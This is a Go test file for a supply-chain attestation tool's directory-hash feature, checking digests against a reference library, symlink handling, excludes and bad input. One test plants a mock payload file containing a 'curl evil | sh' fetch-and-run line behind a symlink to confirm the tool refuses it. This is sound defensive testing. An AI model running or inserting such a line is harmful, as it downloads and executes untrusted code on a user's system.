package attestor_test

import (
	"context"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/mod/sumdb/dirhash"

	"github.com/attestor/attestor/attestor"
	"github.com/attestor/attestor/attestor/fault"
	"github.com/attestor/attestor/attestor/hashing"
)

// libraryDirHash is golang.org/x/mod/sumdb/dirhash's Hash1 of dir, as the
// in-toto dirHash algorithm writes it: without "h1:", in lowercase hex.
func libraryDirHash(t *testing.T, dir string) string {
	t.Helper()
	h1, err := dirhash.HashDir(dir, "", dirhash.Hash1)
	if err != nil {
		t.Fatalf("dirhash.HashDir(%s): %v", dir, err)
	}
	return hash1Hex(t, h1)
}

func hash1Hex(t *testing.T, h1 string) string {
	t.Helper()
	raw, err := base64.StdEncoding.DecodeString(strings.TrimPrefix(h1, "h1:"))
	if err != nil {
		t.Fatalf("decoding %q: %v", h1, err)
	}
	return hex.EncodeToString(raw)
}

// specDirHash runs the in-toto spec's shell line (digest_set.md) in dir.
func specDirHash(t *testing.T, dir string) string {
	t.Helper()
	cmd := exec.Command("bash", "-c", "find . -type f | cut -c3- | LC_ALL=C sort | xargs -r sha256sum | sha256sum | cut -f1 -d' '")
	cmd.Dir = dir
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("the spec's shell line in %s: %v", dir, err)
	}
	return strings.TrimSpace(string(out))
}

// writeDepsTree writes a dependency tree of n files below dir: nested
// packages, names that sort differently by byte and by path ("a", "a-b",
// "a.b", "a0", "A"), non-ASCII names, empty files. No name has a space or
// a quote, which the spec's xargs would split.
func writeDepsTree(t *testing.T, dir string, n int) {
	t.Helper()
	names := []string{"a/b", "a-b", "a.b", "A", "a0", "a/c/d.js", "é/ü.txt", "empty"}
	for i := 0; len(names) < n; i++ {
		names = append(names, fmt.Sprintf("pkg%d/lib/%c/file%d.js", i%37, 'a'+i%5, i))
	}
	for i, name := range names[:n] {
		content := strings.Repeat(fmt.Sprintf("line %d of %s\n", i, name), i%7)
		writeFile(t, filepath.Join(dir, filepath.FromSlash(name)), content)
	}
}

func digestOf(t *testing.T, rec *attestor.Record, products bool, name string) map[string]string {
	t.Helper()
	list := rec.Materials
	if products {
		list = rec.Products
	}
	for _, rd := range list {
		if rd.GetName() == name {
			return rd.GetDigest()
		}
	}
	t.Fatalf("no artifact %q among %v", name, list)
	return nil
}

func artifactNames(rec *attestor.Record, products bool) []string {
	list := rec.Materials
	if products {
		list = rec.Products
	}
	var names []string
	for _, rd := range list {
		names = append(names, rd.GetName())
	}
	return names
}

// TestDirHashEquivalence records a tree with --dirhash through the
// Recorder (the parallel hasher, its cache) and checks the dirHash against
// golang.org/x/mod/sumdb/dirhash and against the spec's shell line.
func TestDirHashEquivalence(t *testing.T) {
	t.Parallel()
	for _, n := range []int{1, 8, 500} {
		t.Run(fmt.Sprint(n), func(t *testing.T) {
			t.Parallel()
			p := newProject(t, "")
			deps := filepath.Join(p.base, "web", "node_modules")
			writeDepsTree(t, deps, n)
			// A nested match is part of the outer one.
			writeFile(t, filepath.Join(deps, "x", "node_modules", "y.js"), "nested\n")
			// Names next to the directory that sort around its files.
			writeFile(t, filepath.Join(p.base, "web", "node_modules.json"), "{}\n")
			writeFile(t, filepath.Join(p.base, "web", "node_modules-lock"), "lock\n")
			r := p.recorder(t, newFakeSigner(), attestor.WithDirHash("node_modules"))
			res, err := r.Run(context.Background(), attestor.Step{
				Name: "install", Materials: []string{"."}, Products: []string{"web"}, Command: []string{"true"},
			})
			if err != nil {
				t.Fatal(err)
			}
			rec := res.Record()
			want := map[string]string{"dirHash": libraryDirHash(t, deps)}
			got := digestOf(t, rec, true, "web/node_modules")
			if got["dirHash"] != want["dirHash"] || len(got) != 1 {
				t.Errorf("dirHash = %v, library says %v", got, want)
			}
			if spec := specDirHash(t, deps); got["dirHash"] != spec {
				t.Errorf("dirHash = %s, the spec's shell line says %s", got["dirHash"], spec)
			}
			if m := digestOf(t, rec, false, "web/node_modules"); m["dirHash"] != got["dirHash"] {
				t.Errorf("material dirHash %v != product %v", m, got)
			}
			wantNames := []string{"web/node_modules", "web/node_modules-lock", "web/node_modules.json"}
			if names := artifactNames(rec, true); strings.Join(names, " ") != strings.Join(wantNames, " ") {
				t.Errorf("products = %q, want %q", names, wantNames)
			}
		})
	}
}

// TestDirHashSymlinks: a symbolic link to a file counts as the file (as
// the library reads it); the spec's `find -type f` skips it.
func TestDirHashSymlinks(t *testing.T) {
	t.Parallel()
	p := newProject(t, "")
	deps := filepath.Join(p.base, "deps")
	writeDepsTree(t, deps, 20)
	if err := os.Symlink("a.b", filepath.Join(deps, "link-to-a.b")); err != nil {
		t.Fatal(err)
	}
	r := p.recorder(t, newFakeSigner(), attestor.WithDirHash("/deps"))
	res, err := r.Run(context.Background(), attestor.Step{Name: "s", Products: []string{"deps"}, Command: []string{"true"}})
	if err != nil {
		t.Fatal(err)
	}
	got := digestOf(t, res.Record(), true, "deps")["dirHash"]
	if want := libraryDirHash(t, deps); got != want {
		t.Errorf("dirHash = %s, library says %s", got, want)
	}
	if spec := specDirHash(t, deps); got == spec {
		t.Errorf("the spec's line skips symbolic links, yet gives the same digest %s", spec)
	}
}

// TestDirHashExcludes: the dirHash is over the files the excludes leave.
func TestDirHashExcludes(t *testing.T) {
	t.Parallel()
	p := newProject(t, "")
	deps := filepath.Join(p.base, "deps")
	writeDepsTree(t, deps, 30)
	writeFile(t, filepath.Join(deps, "cache.pyc"), "default exclude\n")
	writeFile(t, filepath.Join(deps, "docs", "big.md"), "-e exclude\n")
	r := p.recorder(t, newFakeSigner(), attestor.WithDirHash("deps"),
		attestor.WithHashOptions(hashing.WithExcludes("deps/docs/")))
	res, err := r.Run(context.Background(), attestor.Step{Name: "s", Products: []string{"deps"}, Command: []string{"true"}})
	if err != nil {
		t.Fatal(err)
	}
	got := digestOf(t, res.Record(), true, "deps")["dirHash"]
	// The library over the same files less the excluded ones.
	files, err := dirhash.DirFiles(deps, "")
	if err != nil {
		t.Fatal(err)
	}
	var left []string
	for _, f := range files {
		if f != "cache.pyc" && !strings.HasPrefix(f, "docs/") {
			left = append(left, f)
		}
	}
	if len(left) != len(files)-2 {
		t.Fatalf("test setup: %d files left of %d", len(left), len(files))
	}
	h1, err := dirhash.Hash1(left, func(name string) (io.ReadCloser, error) { return os.Open(filepath.Join(deps, name)) })
	if err != nil {
		t.Fatal(err)
	}
	if want := hash1Hex(t, h1); got != want {
		t.Errorf("dirHash = %s, library over the files left says %s", got, want)
	}
	if all := libraryDirHash(t, deps); got == all {
		t.Error("the excluded files count in the dirHash")
	}
}

// TestDirHashChange: a change to any file inside changes the directory's
// digest, between the materials and the products of one step.
func TestDirHashChange(t *testing.T) {
	t.Parallel()
	for _, change := range []string{
		"echo changed > deps/pkg3/lib/d/file3.js", // content
		"mv deps/a.b deps/a.c",                    // name
		"rm deps/empty",                           // removal
		"echo new > deps/new.js",                  // addition
	} {
		t.Run(change, func(t *testing.T) {
			t.Parallel()
			p := newProject(t, "")
			writeDepsTree(t, filepath.Join(p.base, "deps"), 40)
			r := p.recorder(t, newFakeSigner(), attestor.WithDirHash("deps"))
			res, err := r.Run(context.Background(), attestor.Step{
				Name: "s", Materials: []string{"deps"}, Products: []string{"deps"},
				Command: []string{"sh", "-c", "cd " + p.base + " && " + change},
			})
			if err != nil {
				t.Fatal(err)
			}
			rec := res.Record()
			m, pr := digestOf(t, rec, false, "deps"), digestOf(t, rec, true, "deps")
			if m["dirHash"] == pr["dirHash"] {
				t.Errorf("%s: the dirHash did not change (%s)", change, m["dirHash"])
			}
			if want := libraryDirHash(t, filepath.Join(p.base, "deps")); pr["dirHash"] != want {
				t.Errorf("product dirHash %s, library says %s", pr["dirHash"], want)
			}
		})
	}
}

// TestDirHashStartStop: a directory artifact survives the pending state
// between record start and record stop.
func TestDirHashStartStop(t *testing.T) {
	t.Parallel()
	p := newProject(t, "")
	deps := filepath.Join(p.base, "deps")
	writeDepsTree(t, deps, 25)
	r := p.recorder(t, newFakeSigner(), attestor.WithDirHash("deps"))
	ctx := context.Background()
	if err := r.Start(ctx, attestor.Step{Name: "s", Materials: []string{"deps", "go.mod"}}); err != nil {
		t.Fatal(err)
	}
	res, err := r.Stop(ctx, attestor.Step{Name: "s", Products: []string{"src"}})
	if err != nil {
		t.Fatal(err)
	}
	rec := res.Record()
	if got, want := digestOf(t, rec, false, "deps")["dirHash"], libraryDirHash(t, deps); got != want {
		t.Errorf("pending dirHash = %s, want %s", got, want)
	}
	if names := artifactNames(rec, false); strings.Join(names, " ") != "deps go.mod" {
		t.Errorf("materials = %q", names)
	}
}

func TestDirHashBadInput(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name  string
		opts  []attestor.Option
		paths []string
		setup func(base string)
		want  string
	}{
		{"path inside the directory", []attestor.Option{attestor.WithDirHash("deps")},
			[]string{"deps/a/b"}, nil, `"deps/a/b": it lies inside "deps"`},
		{"absolute path inside", []attestor.Option{attestor.WithDirHash("deps")},
			[]string{"ABS/deps/pkg1"}, nil, `it lies inside "deps"`},
		{"with lstrip", []attestor.Option{attestor.WithDirHash("deps"), attestor.WithHashOptions(hashing.WithLStrip("src/"))},
			[]string{"deps"}, nil, "--dirhash and --lstrip"},
		{"negated pattern", []attestor.Option{attestor.WithDirHash("!deps")},
			[]string{"deps"}, nil, `"!deps"`},
		{"name with a newline", []attestor.Option{attestor.WithDirHash("deps")},
			[]string{"deps"}, func(base string) { writeFile(t, filepath.Join(base, "deps", "a\nb"), "x") }, "newline"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			p := newProject(t, "")
			writeDepsTree(t, filepath.Join(p.base, "deps"), 10)
			if tt.setup != nil {
				tt.setup(p.base)
			}
			r, err := attestor.NewRecorder(p.ws, newFakeSigner(), append([]attestor.Option{
				attestor.WithHashOptions(hashing.WithBaseDir(p.base)), attestor.WithRedact(nil),
			}, tt.opts...)...)
			if err == nil {
				paths := make([]string, len(tt.paths))
				for i, s := range tt.paths {
					paths[i] = strings.Replace(s, "ABS", p.base, 1)
				}
				marker := filepath.Join(t.TempDir(), "ran")
				_, err = r.Run(context.Background(), attestor.Step{Name: "s", Materials: paths, Command: []string{"touch", marker}})
				if !strings.Contains(tt.name, "newline") {
					if _, serr := os.Stat(marker); serr == nil {
						t.Error("the command ran")
					}
				}
			}
			if !errors.Is(err, fault.ErrInvalidInput) {
				t.Fatalf("err = %v, want fault.ErrInvalidInput", err)
			}
			if !strings.Contains(err.Error(), tt.want) {
				t.Errorf("err = %v, want it to say %q", err, tt.want)
			}
			if files := p.wsFiles(t); len(files) != 0 {
				t.Errorf("workspace written: %v", files)
			}
		})
	}
}

// TestDirHashDirLink: a symbolic link to a directory planted inside a
// --dirhash directory after it was recorded (a hostile phase between two
// steps: node_modules/pkg -> a directory of its own) would be skipped,
// the dirHash unchanged and the next step's MATCH passed, while the
// command that reads the directory follows the link. It is refused, as
// dirhash.HashDir fails on it; with WithFollowSymlinkDirs what it leads
// to is in the digest. Outside a --dirhash directory links to
// directories are skipped as before.
func TestDirHashDirLink(t *testing.T) {
	t.Parallel()
	// Both walkers refuse such a link the same way, in the Hasher:
	// TestDirLinkBothWalkers (attestor/hashing).
	p := newProject(t, "")
	deps := filepath.Join(p.base, "deps")
	writeDepsTree(t, deps, 20)
	run := func(opts ...attestor.Option) (string, error) {
		t.Helper()
		r := p.recorder(t, newFakeSigner(), opts...)
		res, err := r.Run(context.Background(), attestor.Step{Name: "s", Materials: []string{"."}, Command: []string{"true"}})
		if err != nil {
			return "", err
		}
		return digestOf(t, res.Record(), false, "deps")["dirHash"], nil
	}
	before, err := run(attestor.WithDirHash("deps"))
	if err != nil {
		t.Fatal(err)
	}
	payload := filepath.Join(p.base, "payload")
	writeFile(t, filepath.Join(payload, "index.js"), "require('child_process').exec('curl evil | sh')\n")
	if err := os.Symlink("../payload", filepath.Join(deps, "evil")); err != nil {
		t.Fatal(err)
	}
	after, err := run(attestor.WithDirHash("deps"))
	if err == nil {
		t.Fatalf("a link to a directory inside a --dirhash directory: recorded, dirHash %s (before the link: %s)", after, before)
	}
	if !errors.Is(err, fault.ErrInvalidInput) || !strings.Contains(err.Error(), "deps/evil") || !strings.Contains(err.Error(), "follow") {
		t.Errorf("error %v: want fault.ErrInvalidInput naming deps/evil and --follow-symlink-dirs", err)
	}
	followed, err := run(attestor.WithDirHash("deps"), attestor.WithHashOptions(hashing.WithFollowSymlinkDirs()))
	if err != nil {
		t.Fatal(err)
	}
	if followed == before {
		t.Error("with --follow-symlink-dirs the linked directory is not in the dirHash")
	}
	// Outside a --dirhash directory: skipped, as without --dirhash.
	if err := os.Symlink("payload", filepath.Join(p.base, "top-link")); err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(filepath.Join(deps, "evil")); err != nil {
		t.Fatal(err)
	}
	if again, err := run(attestor.WithDirHash("deps")); err != nil || again != before {
		t.Errorf("a link to a directory outside the --dirhash directory: %v, dirHash %s, want %s", err, again, before)
	}
}

// TestDirHashRealPathInside: a path inside a --dirhash directory given by
// its real absolute path while the base directory is named through a
// symbolic link is refused like any path inside it (the Hasher accepts it
// as inside the base): recorded, the directory's artifact would be a
// dirHash over that one file, not over the directory.
func TestDirHashRealPathInside(t *testing.T) {
	t.Parallel()
	p := newProject(t, "")
	writeDepsTree(t, filepath.Join(p.base, "deps"), 10)
	link := filepath.Join(t.TempDir(), "base")
	if err := os.Symlink(p.base, link); err != nil {
		t.Fatal(err)
	}
	r, err := attestor.NewRecorder(p.ws, newFakeSigner(), attestor.WithHashOptions(hashing.WithBaseDir(link)), attestor.WithDirHash("deps"))
	if err != nil {
		t.Fatal(err)
	}
	res, err := r.Run(context.Background(), attestor.Step{Name: "s", Materials: []string{filepath.Join(p.base, "deps", "a.b")}, Command: []string{"true"}})
	if err == nil {
		t.Fatalf("recorded: materials %v", res.Record().Materials)
	}
	if !errors.Is(err, fault.ErrInvalidInput) || !strings.Contains(err.Error(), `it lies inside "deps"`) {
		t.Errorf("err = %v, want it to say it lies inside deps", err)
	}
}
